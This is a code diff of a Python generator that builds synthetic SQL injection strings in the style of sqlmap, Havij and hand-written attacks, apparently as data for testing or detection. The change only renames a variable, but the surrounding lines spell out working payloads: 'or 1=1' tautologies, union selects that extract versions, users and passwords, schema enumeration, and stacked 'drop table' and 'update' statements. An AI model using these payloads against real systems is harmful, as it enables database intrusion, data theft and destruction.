@@ -1,4 +1,4 @@
-"""SQL and NoSQL injection as tools and people write it.
+"""SQL and NoSQL injection by tools and by hand.
 
 Sources: sqlmap's documented techniques (BEUSTQ) and tamper scripts; PortSwigger and PentesterLab exercises (by hand);
 Havij's constant markers as seen in honeypots; Acunetix's and ghauri's time-based probes; NoSQLMap.
@@ -69,13 +69,13 @@ def by_hand(rng: Random, aim: Aim) -> Shot:
     comment = rng.choice(("--", "-- -", "--+", "#", "/*", ";--", "-- x"))
     columns = list(range(1, rng.randrange(3, 9)))
     columns[rng.randrange(len(columns))] = rng.choice(("version()", "database()", f"group_concat({column})", "@@version", "user()", f"concat({column},0x3a,password)"))  # type: ignore[call-overload]
-    said = ",".join(map(str, columns))
+    listed = ",".join(map(str, columns))
     one = rng.choice(("1", "a", "x", str(rng.randrange(1, 99)), ""))
     text = rng.choice((
         "'", "''", "\"", "\\", "1'", f"' or {one or 1}={one or 1}{comment}", f"' or '{one}'='{one}", f"\" or \"{one}\"=\"{one}", f"admin'{comment}",
         f"admin' or '1'='1'{comment}",
         f"') or ('{one}'='{one}", f"1 or 1=1{comment}", f"1 and 1={rng.choice((1, 2))}", f"' order by {len(columns)}{comment}",
-        f"-1 union select {said}{comment}", f"' union select {said} from {table}{comment}",
+        f"-1 union select {listed}{comment}", f"' union select {listed} from {table}{comment}",
         "' union select table_name,2 from information_schema.tables where table_schema=database()" + comment, f"1; drop table {table}{comment}",
         f"'; update {table} set {column}='x' where id=1{comment}",
         f"' and (select count(*) from {table})>0{comment}", f"' and substring({column},1,1)='{rng.choice('abcm')}", f"{one}' having 1=1{comment}",
